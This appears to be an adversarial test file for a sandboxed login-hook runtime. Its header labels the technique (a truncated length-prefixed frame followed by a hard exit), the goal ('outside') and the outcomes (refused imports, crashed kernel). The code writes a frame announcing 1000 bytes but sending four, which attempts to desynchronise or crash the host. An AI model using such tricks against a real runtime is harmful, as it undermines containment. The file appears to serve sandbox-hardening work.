# origin: own
# technique: half a frame, and then the end
# goal: outside
# outcome: refused:import-not-allowed | refused:underscore-attribute
# kernel: CRASHED
import os
def frame(payload):
    return len(payload).to_bytes(4, "big") + payload

def answer(sequence, body):
    return frame(sequence.to_bytes(8, "big") + body)

def write(data):
    while data:
        data = data[os.write(3, data):]


def on_execute_post_login(event, api):
    write((1000).to_bytes(4, "big") + b"half")
    os._exit(0)
